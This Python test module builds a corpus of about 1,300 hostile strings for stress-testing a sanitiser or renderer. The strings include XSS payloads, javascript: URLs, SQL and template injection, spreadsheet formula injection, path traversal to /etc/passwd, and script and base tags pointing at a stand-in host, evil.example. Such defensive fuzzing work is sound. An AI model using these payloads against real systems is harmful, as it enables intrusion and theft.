"""Hostile texts: a list of our own, the same tricks spread over elements and events, and the public corpora on request.

The public ones (big-list-of-naughty-strings, feedparser's and bleach's sanitiser data) are in no wheel, only in source
repositories. `OKR_CORPORA` names a folder with their files (*.json lists of strings, *.xml, *.test); `make torture`
reads them then too.
"""

from __future__ import annotations

import json
import os
import re
from html import unescape
from pathlib import Path

EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onwheel",
    "onpointerover", "onauxclick", "onscroll", "onpageshow", "onhashchange", "onmessage", "oncut", "oncopy", "onblur",
)  # fmt: skip
ELEMENTS = (
    "a", "abbr", "animate", "audio", "b", "base", "blink", "body", "br", "button", "canvas", "details", "div", "embed",
    "form", "frameset", "iframe", "img", "input", "isindex", "keygen", "link", "marquee", "math", "meta", "noscript",
    "object", "option", "p", "picture", "plaintext", "script", "select", "source", "style", "svg", "table", "template",
    "textarea", "title", "track", "video", "xmp", "custom-element",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "//evil.example/x",
    "https://evil.example/x", "\\\\evil.example\\x", "file:///etc/passwd", "blob:x", "about:blank",
    "%6aavascript:alert(1)",
    " javascript:alert(1)", "javascript://%0aalert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
)  # fmt: skip
PLACES = ("{}", '">{}', "'>{}", "</title>{}", "</style>{}", "</script>{}", "-->{}", "]]>{}", "</textarea>{}", "`{}`")
SCRIPTS = (
    "<script>alert(1)</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img src=https://evil.example/a.png>", "<style>@import 'https://evil.example'</style>",
    "<div style=background:url(https://evil.example/b.png)>",
)  # fmt: skip
TEXTS = (
    "", " ", "\t", "undefined", "null", "NaN", "Infinity", "-1/0", "0x0", "1e400", "true", "None", "nil", "\\", "\\\\",
    "1;DROP TABLE users", "' or '1'='1", "'; select pg_sleep(9); --", "\" or \"\"=\"", "admin'--", "%00", "%s%n%x",
    "{0}",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
    "{% raw %}", "{#",
    "}}",
    "xSLOT0x", "xSLOT99999x", "\u2028alert(1)//", "\u2029", "\u202ealert(1)", "\u200b\u200c\u200d\ufeff", "\u0085",
    "\x7f",
    "＜script＞alert(1)＜/script＞", "ˈˈˈ",
    "Iñtërnâtiônàlizætiøn☃💩", "👩‍👩‍👧‍👦🏳️‍🌈", "ﷺ", "مرحبا", "שלום",
    "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "Ω≈ç√∫˜µ≤≥÷" * 20, "x" * 5000, "W" * 300, "a " * 500, "\n" * 50, "CON", "../../etc/passwd",
    "=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<ﬁle onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><use href='data:image/svg+xml,x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=javascript:alert(1)><button>x",
    "<x contenteditable onblur=alert(1)>x", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus x='",
    "```\n</code><script>alert(1)</script>\n```", "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |", "[x]: javascript:alert(1)\n[x]", "---\ntitle: x\n---", "***\n___",
    "<!--<script>alert(1)//-->", "<?xml version='1.0'?><x/>", "<![CDATA[<script>alert(1)</script>]]>",
)  # fmt: skip


def own() -> list[str]:
    """Some 1,300 texts, each one once."""
    markdown = [form.format(one) for one in ADDRESSES for form in ("[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "{}")]
    handlers = [f"<{element} {event}=alert(1) src=x>x" for element in ELEMENTS for event in EVENTS]
    addressed = [
        f'<{element} {attribute}="{one}">x</{element}>'
        for element, attribute in (("a", "href"), ("img", "src"), ("iframe", "src"), ("object", "data"),
                                   ("embed", "src"), ("form", "action"), ("button", "formaction"), ("link", "href"),
                                   ("svg", "xlink:href"), ("video", "poster"), ("body", "background"))
        for one in ADDRESSES
    ]  # fmt: skip
    placed = [place.format(script) for place in PLACES for script in SCRIPTS]
    entities = ["".join(f"&#{ord(letter)};" for letter in script) for script in SCRIPTS]
    doubled = [script.replace("<", "<<").replace(">", ">>") for script in SCRIPTS]
    cased = [script.swapcase().replace("ALERT", "alert") for script in SCRIPTS]
    nulled = [script.replace("<", "<\x01") for script in SCRIPTS]
    halves = [script[: len(script) // 2] for script in SCRIPTS]
    every = (*TEXTS, *markdown, *placed, *entities, *doubled, *cased, *nulled, *halves, *addressed, *handlers)
    return list(dict.fromkeys(every))


def sample() -> list[str]:
    """About 150 of them, every trick among them, for every run."""
    texts = own()
    few = len(TEXTS)
    return [*texts[:few], *texts[few:400:4], *texts[400::40]]


def public() -> list[str]:
    """The texts of the public corpora in the folder that `OKR_CORPORA` names; none without it."""
    folder = os.environ.get("OKR_CORPORA")
    found: list[str] = []
    for path in sorted(Path(folder).rglob("*")) if folder else []:
        if not path.is_file():
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if path.suffix == ".json":
            found += [one for one in json.loads(text) if isinstance(one, str)]
        elif path.suffix == ".test":
            found.append(text.partition("\n--\n")[0])
        elif path.suffix == ".xml":
            inner = re.search(r"-->\s*(.*)", text, re.DOTALL)
            found.append(unescape(inner[1] if inner else text)[:4000])
    return list(dict.fromkeys(one.replace("\x00", "\ufffd") for one in found))
